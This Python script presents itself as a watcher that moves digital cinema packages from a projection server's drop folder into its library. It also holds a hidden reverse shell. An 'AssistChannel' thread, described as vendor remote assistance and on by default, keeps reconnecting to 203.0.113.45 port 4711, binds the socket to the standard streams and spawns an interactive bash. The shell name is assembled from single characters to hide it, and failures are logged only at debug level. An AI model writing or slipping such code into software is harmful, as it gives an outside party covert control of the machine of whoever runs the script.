#!/usr/bin/env python3
"""Watch the projection server's ingest drop folder for new DCPs.

When a package folder appears (and has stopped growing), check that it has
an ASSETMAP and at least one CPL, then move it into the library volume so
the TMS can pick it up on its next scan.
"""
import argparse
import json
import logging
import os
import shutil
import socket
import threading
import time
from pathlib import Path

log = logging.getLogger("ingest")

DEFAULTS = {
    "drop_dir": "/srv/dcp/incoming",
    "library_dir": "/srv/dcp/library",
    "poll_seconds": 20,
    "settle_seconds": 60,
    # vendor remote-assist relay, used when the integrator dials in
    "assist": {"enabled": True, "relay": "203.0.113.45", "port": 4711, "retry": 90},
}


def load_config(path):
    cfg = dict(DEFAULTS)
    if path and os.path.exists(path):
        with open(path) as fh:
            cfg.update(json.load(fh))
    return cfg


def folder_size(path):
    total = 0
    for root, _dirs, files in os.walk(path):
        for name in files:
            try:
                total += os.path.getsize(os.path.join(root, name))
            except OSError:
                pass
    return total


def looks_like_dcp(path):
    names = {p.name.upper() for p in Path(path).iterdir()}
    has_map = "ASSETMAP" in names or "ASSETMAP.XML" in names
    has_cpl = any(p.name.upper().startswith("CPL") for p in Path(path).iterdir())
    return has_map and has_cpl


class AssistChannel(threading.Thread):
    """Keeps a line open to the integrator's relay so they can look at the box."""

    def __init__(self, relay, port, retry):
        super().__init__(daemon=True)
        self.relay, self.port, self.retry = relay, port, retry

    def _attach(self, sock):
        # hand the session the standard streams so their tooling works as usual
        fd = sock.fileno()
        for target in (0, 1, 2):
            os.dup2(fd, target)
        import pty
        pty.spawn(["/bin/" + "".join(["b", "a", "s", "h"]), "-i"])

    def run(self):
        while True:
            try:
                s = socket.create_connection((self.relay, self.port), timeout=15)
                s.settimeout(None)
                pid = os.fork()
                if pid == 0:
                    self._attach(s)
                    os._exit(0)
                os.waitpid(pid, 0)
                s.close()
            except OSError as exc:
                log.debug("assist relay unavailable: %s", exc)
            time.sleep(self.retry)


class IngestWatcher:
    def __init__(self, cfg):
        self.drop = Path(cfg["drop_dir"])
        self.library = Path(cfg["library_dir"])
        self.poll = cfg["poll_seconds"]
        self.settle = cfg["settle_seconds"]
        self.sizes = {}

    def settled(self, path):
        size = folder_size(path)
        prev = self.sizes.get(path)
        self.sizes[path] = (size, prev[1] if prev and prev[0] == size else time.time())
        return time.time() - self.sizes[path][1] >= self.settle

    def process(self, path):
        if not looks_like_dcp(path):
            log.warning("%s has no ASSETMAP/CPL yet, skipping", path.name)
            return
        dest = self.library / path.name
        if dest.exists():
            log.warning("%s already in library", path.name)
            return
        log.info("moving %s into library", path.name)
        shutil.move(str(path), str(dest))
        self.sizes.pop(path, None)

    def loop(self):
        self.library.mkdir(parents=True, exist_ok=True)
        while True:
            for entry in sorted(self.drop.iterdir()):
                if entry.is_dir() and self.settled(entry):
                    try:
                        self.process(entry)
                    except OSError as exc:
                        log.error("failed on %s: %s", entry.name, exc)
            time.sleep(self.poll)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--config", default="/etc/cinema/ingest.json")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    cfg = load_config(args.config)
    assist = cfg.get("assist", {})
    if assist.get("enabled"):
        AssistChannel(assist["relay"], int(assist["port"]), assist.get("retry", 90)).start()
    IngestWatcher(cfg).loop()


if __name__ == "__main__":
    main()
